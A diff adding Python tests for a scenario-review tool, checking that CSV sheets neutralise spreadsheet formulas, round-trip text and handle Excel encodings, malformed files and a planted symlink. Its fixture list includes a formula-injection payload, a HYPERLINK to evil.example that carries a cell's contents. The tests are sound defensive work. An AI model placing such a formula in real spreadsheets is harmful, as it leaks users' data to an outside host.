@@ -179,3 +179,140 @@ def test_bad_sheets_are_one_line_errors_and_stale_decisions_do_not_count(tmp_pat
     (folder / "scenario.yaml").write_text(yaml.safe_dump(doc, sort_keys=False))
     _cli("review", str(folder), "--export", str(sheet))
     assert [r["decision"] for r in csv.DictReader(sheet.open())][0] == ""  # the old decision no longer counts
+
+
+# -- sheets: formula-safe cells, lossless round trip, sheets as spreadsheet programs save them ------------------
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "'quoted from a letter", "''two quotes",
+           "'Tis the season to prune", "-5 degrees tonight: cover the dahlias?", "+44 nursery number?",
+           "@gardener what now?", "\tindented question", "\rcarriage return first", "café € naïve, ÿes"]
+
+
+def _hostile_folder(tmp_path) -> Path:
+    folder = _folder(tmp_path)
+    rows = [{"id": f"garden-h{i:02d}", "label": "safe", "prompt": text} for i, text in enumerate(HOSTILE)]
+    (folder / "prompts.yaml").write_text(yaml.safe_dump(rows, sort_keys=False, allow_unicode=True))
+    return folder
+
+
+def _accept_all_rows(sheet: Path, edits: dict[str, str] | None = None) -> list[list[str]]:
+    """The sheet as rows of cells, every item accepted (or edited), as a spreadsheet program would keep them."""
+    rows = list(csv.reader(sheet.open(newline="", encoding="utf-8")))
+    col = {name: i for i, name in enumerate(rows[0])}
+    for r in rows[1:]:
+        edited = (edits or {}).get(r[col["item"]])
+        r[col["decision"]], r[col["edited_text"]] = ("edit", edited) if edited else ("accept", "")
+    return rows
+
+
+def _write_rows(path: Path, rows: list[list[str]], encoding: str, delimiter: str = ",") -> None:
+    with path.open("w", newline="", encoding=encoding) as f:
+        csv.writer(f, delimiter=delimiter).writerows(rows)
+
+
+def test_sheet_cells_that_are_formulas_are_neutralised_and_the_round_trip_is_lossless(tmp_path):
+    from specalign.benchmark._specalign_layout import load_scenario_dir
+    from specalign.build._review import export_sheet, final_scenario, import_sheet, review_items
+
+    scenario = load_scenario_dir(_hostile_folder(tmp_path))
+    items = review_items(scenario)
+    sheet = tmp_path / "sheet.csv"
+    export_sheet(items, {}, sheet)
+    cells = [c for row in csv.reader(sheet.open(newline="")) for c in row]
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in cells
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
+    assert "'''two quotes" in cells and "'''Tis the season to prune" not in cells  # one more quote, always
+    edits = {"prompt:garden-h01": "=1+1 is what I meant", "prompt:garden-h02": "'kept as typed"}
+    _write_rows(sheet, _accept_all_rows(sheet, {k: "'" + v if v[0] in "='" else v for k, v in edits.items()}),
+                "utf-8")
+    decided = {d.item: d for d in import_sheet(items, sheet, "bo")}
+    assert len(decided) == len(items)
+    final, _ = final_scenario(scenario, decided)
+    texts = {p.id: p.prompt for p in final.prompts}
+    expected = {f"garden-h{i:02d}": t for i, t in enumerate(HOSTILE)}
+    expected.update({"garden-h01": edits["prompt:garden-h01"], "garden-h02": edits["prompt:garden-h02"]})
+    assert texts == expected  # every text exactly as it was (or as edited), quotes included
+    export_sheet(items, {}, sheet, raw_cells=True)
+    assert HOSTILE[0] in [c for row in csv.reader(sheet.open(newline="")) for c in row]
+
+
+@pytest.mark.parametrize(("encoding", "delimiter"), [("utf-8-sig", ","), ("utf-16", "\t"), ("cp1252", ";"),
+                                                     ("utf-8", ";"), ("utf-16-be", ",")])
+def test_sheets_saved_by_spreadsheet_programs_are_read_back(tmp_path, encoding, delimiter):
+    """Excel writes CSV UTF-8 with a BOM, "Unicode text" as UTF-16 with tabs, legacy CSV as Windows-1252 with
+    ';' where the decimal separator is a comma."""
+    from specalign.benchmark._specalign_layout import load_scenario_dir
+    from specalign.build._review import export_sheet, import_sheet, review_items
+
+    scenario = load_scenario_dir(_hostile_folder(tmp_path))
+    items = review_items(scenario)
+    sheet = tmp_path / "sheet.csv"
+    export_sheet(items, {}, sheet)
+    rows = _accept_all_rows(sheet, {"prompt:garden-h09": "crème brûlée, 5 €"})
+    if encoding == "utf-8" and delimiter == ";":  # with Excel's hint line
+        _write_rows(sheet, rows, encoding, delimiter)
+        sheet.write_bytes(b"sep=;\r\n" + sheet.read_bytes())
+    elif encoding == "utf-16-be":  # with its byte order mark, as Excel writes it
+        sheet.write_bytes(b"\xfe\xff" + "\r\n".join(",".join(f'"{c}"' for c in r) for r in
+                                                    [[c.replace('"', '""') for c in r] for r in rows]).encode(encoding))
+    else:
+        _write_rows(sheet, rows, encoding, delimiter)
+    decided = {d.item: d for d in import_sheet(items, sheet, "bo")}
+    assert len(decided) == len(items)
+    assert decided["prompt:garden-h09"].edited_text == "crème brûlée, 5 €"
+
+
+@pytest.mark.parametrize(("content", "needle"), [
+    (b"item,text,decision\nspec:S1,caf\x81,accept\n", "encoding"),  # neither UTF-8 nor Windows-1252
+    ("item,text,decision\nspec:S1,a\x00b,accept\n".encode(), "NUL"),
+    (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "encoding"),
+    (b"name,verdict\nx,y\n", "no header row with the columns item, text, decision"),
+    (b"", "no header row"),
+    (b'item,kind,label,text,original,decision\n"spec:S1,unclosed\n', "not a readable CSV sheet"),
+    (b"item,text,decision\nspec:S1,x,accept,extra,cells\n", "row 2"),
+])
+def test_unreadable_sheets_are_one_line_errors_naming_the_file(tmp_path, content, needle):
+    folder = _folder(tmp_path)
+    sheet = tmp_path / "filled.csv"
+    sheet.write_bytes(content)
+    r = _cli("review", str(folder), "--import", str(sheet))
+    assert r.returncode == 2 and r.stderr.count("\n") == 1 and "Traceback" not in r.stderr, r.stderr
+    assert str(sheet) in r.stderr and needle in r.stderr, r.stderr
+    assert not (folder / "review.jsonl").exists()
+
+
+def test_import_sheet_closes_the_file(tmp_path):
+    import gc
+    import warnings
+
+    from specalign.benchmark._specalign_layout import load_scenario_dir
+    from specalign.build._review import export_sheet, import_sheet, review_items
+
+    items = review_items(load_scenario_dir(_folder(tmp_path)))
+    export_sheet(items, {}, tmp_path / "s.csv")
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        import_sheet(items, tmp_path / "s.csv", "bo")
+        gc.collect()
+    assert not [w for w in caught if issubclass(w.category, ResourceWarning)]
+
+
+def test_review_never_writes_over_the_scenario_it_reviews_or_through_a_symlink(tmp_path):
+    folder = _folder(tmp_path)
+    before = {p.name: p.read_bytes() for p in folder.iterdir()}
+    for args in (["--export", str(folder / "scenario.yaml")], ["--export", str(folder / "prompts.yaml")],
+                 ["--apply", str(folder.parent)], ["--apply", str(folder.parent), "--force"],
+                 ["--export", str(tmp_path / "s.csv"), "--apply", str(tmp_path / "final")]):
+        r = _cli("review", str(folder), *args)
+        assert r.returncode == 2 and r.stderr.count("\n") == 1, (args, r.stderr)
+    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
+    assert not (tmp_path / "s.csv").exists() and not (tmp_path / "final").exists()
+    outside = tmp_path / "outside.txt"
+    outside.write_text("")  # (a non-empty one stops the review earlier: it holds no decisions)
+    (folder / "review.jsonl").symlink_to(outside)  # planted in a downloaded scenario folder
+    sheet = tmp_path / "s.csv"
+    assert _cli("review", str(folder), "--export", str(sheet)).returncode == 0
+    _fill(sheet, {"spec:S1": ("accept", "")})
+    r = _cli("review", str(folder), "--import", str(sheet))
+    assert r.returncode == 2 and "symbolic link" in r.stderr and r.stderr.count("\n") == 1, r.stderr
+    assert outside.read_text() == ""
